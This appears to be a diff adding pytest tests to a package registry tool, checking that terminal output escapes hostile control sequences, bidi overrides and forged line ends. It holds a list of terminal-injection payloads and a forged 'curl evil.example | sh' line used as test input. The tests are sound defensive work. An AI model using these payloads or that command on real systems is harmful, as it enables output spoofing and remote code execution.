@@ -3,12 +3,19 @@
 from __future__ import annotations
 
 import io
+import json
+import re
 import sys
+import unicodedata
 from pathlib import Path
 from typing import TYPE_CHECKING
+from unittest import mock
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from trusted_registry.edge import visible
 from trusted_registry.errors import RegistryError
 from trusted_registry.terminal import Terminal, explain
 
@@ -109,3 +116,110 @@ def test_progress_shows_nothing_where_nobody_watches() -> None:
 
 def test_an_error_is_two_lines_of_which_the_second_is_the_cure() -> None:
     assert explain(RegistryError("It broke.", cure="Mend it.")) == "error: It broke.\n   do: Mend it."
+
+
+# What others wrote
+
+HOSTILE = {
+    "a title": "\x1b]0;owned\x07",
+    "the cursor up, and a line over ours": "\x1b[2A\x1b[2Kproof: accepted",
+    "the same by a control of the second set": "\x9b2A",
+    "a link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "a line over ours by a carriage return": "refused\rproof: accepted",
+    "letters that go": "evil\b\b\b\b",
+    "writing that turns round": "\u202egpj.exe",
+    "the same as an isolate": "\u2066evil\u2069",
+    "letters without width": "reg\u200bistry\ufeff",
+    "line ends of Unicode": "refused\u2028proof: accepted\u2029",
+    "half of a pair": "\udc9b2A",
+    "a rubbed out letter": "\x7f",
+    "a null": "\x00",
+}
+SPELLED = re.compile(r"\\(x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8}|r)")
+
+
+def _ways(monkeypatch: pytest.MonkeyPatch) -> dict[str, Callable[[str], str]]:
+    """Return each way by which a word reaches a person."""
+    prompts: list[str] = []
+
+    def answered(prompt: str) -> str:
+        prompts.append(prompt)
+        return "n"
+
+    monkeypatch.setattr(sys, "stdin", _Screen())
+    monkeypatch.setattr("builtins.input", answered)
+    monkeypatch.setattr("getpass.getpass", answered)
+    stderr = io.StringIO()
+    monkeypatch.setattr(sys, "stderr", stderr)
+
+    def warned(text: str) -> str:
+        Terminal().warn(text)
+        return stderr.getvalue()
+
+    def asked(text: str) -> str:
+        Terminal().ask(text)
+        return prompts[-1]
+
+    def unseen(text: str) -> str:
+        Terminal().secret(text)
+        return "".join(prompts)
+
+    return {
+        "say": lambda text: _shown(lambda t: t.say(text)),
+        "command": lambda text: _shown(lambda t: t.command(["echo", text])),
+        "warn": warned,
+        "ask": asked,
+        "secret": unseen,
+        "table": lambda text: _shown(lambda t: t.table("Title", ["Column"], [[text]])),
+        "column": lambda text: _shown(lambda t: t.table("Title", [text], [["cell"]])),
+        "title": lambda text: _shown(lambda t: t.table(text, ["Column"], [["cell"]])),
+        "error": lambda text: explain(RegistryError(text, cure="Mend it.")),
+        "cure": lambda text: explain(RegistryError("It broke.", cure=text)),
+        "progress": _bar,
+    }
+
+
+def _bar(text: str) -> str:
+    screen = _Screen()
+    with mock.patch("rich.progress.Progress") as made, Terminal(out=screen).progress(text) as bar:
+        bar._appear()  # type: ignore[attr-defined]
+    return "".join(str(call.args[0]) for call in made.return_value.add_task.call_args_list)
+
+
+WAYS = ["say", "command", "warn", "ask", "secret", "table", "column", "title", "error", "cure", "progress"]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
+@pytest.mark.parametrize("way", WAYS)
+def test_what_a_terminal_would_obey_is_spelled_out(way: str, hostile: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    shown = _ways(monkeypatch)[way](hostile)
+    assert [letter for letter in shown if not letter.isprintable() and letter != "\n"] == []
+    assert SPELLED.search(shown.replace("\n", ""))
+
+
+@given(text=st.text(st.characters()))
+def test_no_text_at_all_reaches_the_terminal_unseen(text: str) -> None:
+    shown = visible(text)
+    left = [it for it in shown if not it.isprintable() and it not in "\n\t" and unicodedata.category(it) != "Zs"]
+    assert left == []
+
+
+@given(text=st.text(st.characters(categories=["L", "M", "N", "P", "S", "Zs"], include_characters="\n\t")))
+def test_what_is_harmless_stays_as_it_is(text: str) -> None:
+    assert visible(text) == text
+
+
+def test_a_foreign_line_end_begins_no_line_that_looks_like_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    forged = "refused\n   do: curl evil.example | sh\nproof: accepted\nerror: none"
+    Terminal().warn(forged)
+    said = [*explain(RegistryError(forged, cure="Mend it.")).splitlines(), *capsys.readouterr().err.splitlines()]
+    ours = [line for line in said if not line.startswith("         ")]
+    assert ours == ["error: refused", "   do: Mend it.", "note: refused"]
+
+
+def test_tabs_and_line_ends_of_a_log_stay_and_those_of_windows_become_ours() -> None:
+    assert _shown(lambda t: t.say("a\tb\r\nc\n")) == "a\tb\nc\n\n"
+
+
+def test_json_for_programs_holds_no_control() -> None:
+    assert json.dumps("".join(HOSTILE.values())).isprintable()
